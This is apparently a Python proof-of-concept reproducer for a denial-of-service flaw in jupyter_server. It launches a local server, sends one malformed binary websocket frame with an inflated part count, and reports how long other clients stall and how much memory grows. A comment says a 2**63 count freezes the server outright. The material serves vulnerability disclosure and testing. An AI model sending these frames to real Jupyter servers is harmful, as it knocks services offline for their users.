"""Reproducer: jupyter_server trusts the part count of a binary kernel-websocket frame.

Starts a plain `jupyter server` on 127.0.0.1 (token auth), starts a kernel, sends ONE malformed
frame on the kernel's websocket and meanwhile times `GET /api/status` from another client, then
prints the longest wait and how much the server's memory grew. Needs jupyter_server, ipykernel
and psutil. Run: `python jupyter_server_frames.py` (uses about 3.5 GB for the legacy frame).
"""

from __future__ import annotations

import asyncio
import json
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request

import psutil
from tornado.websocket import websocket_connect

TOKEN = "repro"
V1 = "v1.kernel.websocket.jupyter.org"
FRAMES = {  # a count of 2**63 instead never finishes: the server stays frozen
    "v1 frame, 8 bytes holding 12,000,000": (V1, (12_000_000).to_bytes(8, "little")),
    "legacy frame, 4 bytes holding 100,000,000": (None, struct.pack("!i", 100_000_000)),
}


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def call(base: str, method: str, path: str) -> bytes:
    request = urllib.request.Request(base + path, method=method,
                                     data=b"" if method == "POST" else None,
                                     headers={"Authorization": f"token {TOKEN}"})
    with urllib.request.urlopen(request, timeout=300) as response:
        return response.read()


def watch(base: str, done: threading.Event, times: list[float]) -> None:
    while not done.is_set():
        started = time.perf_counter()
        call(base, "GET", "/api/status")
        times.append(time.perf_counter() - started)
        time.sleep(0.01)


async def send(url: str, subprotocol: str | None, frame: bytes) -> None:
    websocket = await websocket_connect(url, subprotocols=[subprotocol] if subprotocol else None)
    await websocket.write_message(frame, binary=True)
    await asyncio.sleep(0.2)
    websocket.close()


def main() -> None:
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    with open("jupyter_server.log", "w") as log:
        server = subprocess.Popen([sys.executable, "-m", "jupyter_server", "--no-browser",
                                   f"--port={port}", f"--IdentityProvider.token={TOKEN}",
                                   "--allow-root"],  # containers run as root
                                  stdout=log, stderr=subprocess.STDOUT)
    try:
        for _ in range(120):
            try:
                call(base, "GET", "/api/status")
                break
            except OSError:
                if server.poll() is not None:
                    raise SystemExit("jupyter server ended: see jupyter_server.log") from None
                time.sleep(0.5)
        process = psutil.Process(server.pid)
        for name, (subprotocol, frame) in FRAMES.items():
            kernel = json.loads(call(base, "POST", "/api/kernels"))["id"]
            time.sleep(2)
            url = base.replace("http", "ws") + f"/api/kernels/{kernel}/channels?token={TOKEN}"
            rss_before = process.memory_info().rss
            done, times = threading.Event(), []
            watcher = threading.Thread(target=watch, args=(base, done, times))
            watcher.start()
            time.sleep(0.3)
            asyncio.run(send(url, subprotocol, frame))
            time.sleep(1)
            done.set()
            watcher.join()
            growth = (process.memory_info().rss - rss_before) / 2**20
            print(f"{name}: another client waited up to {max(times):.2f} s, "
                  f"server memory {growth:+.0f} MB")
    finally:
        server.terminate()
        server.wait(60)


if __name__ == "__main__":
    main()
